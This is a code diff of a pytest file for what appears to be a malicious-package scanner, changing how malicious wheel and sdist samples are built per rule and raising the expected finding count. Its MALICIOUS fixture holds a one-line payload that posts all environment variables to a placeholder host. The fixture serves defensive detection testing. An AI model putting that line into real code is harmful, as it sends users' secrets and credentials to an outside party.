@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from support.scan import SAMPLES, a_wheel, an_sdist
+from support.scan import a_wheel, an_sdist, the_ruleset
 
 MALICIOUS = {
     "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
@@ -101,12 +101,10 @@ def test_sarif_is_one_log_of_all_files(folder: Path) -> None:
 
 
 def test_malicious_samples_of_all_rules_are_scanned_in_one_run(tmp_path: Path) -> None:
-    for sample in sorted(SAMPLES.glob("*/malicious/wheel")):
-        files = {
-            path.relative_to(sample).as_posix().removesuffix(".txt"): path.read_bytes()
-            for path in sample.rglob("*.txt")
-        }
-        (tmp_path / f"{sample.parts[-3].replace('-', '_')}-1-py3-none-any.whl").write_bytes(a_wheel(files))
+    for rule in the_ruleset().rules:
+        for number, sample in enumerate(rule.samples.malicious):
+            suffix = "-py3-none-any.whl" if sample.is_wheel else ".tar.gz"
+            (tmp_path / f"{rule.id.replace('-', '_')}-{number}{suffix}").write_bytes(sample.packed())
     lines = [json.loads(line) for line in scan(tmp_path, "--format", "json").stdout.splitlines()]
-    assert len(lines) >= 12
+    assert len(lines) >= 24
     assert all(line["findings"] for line in lines)
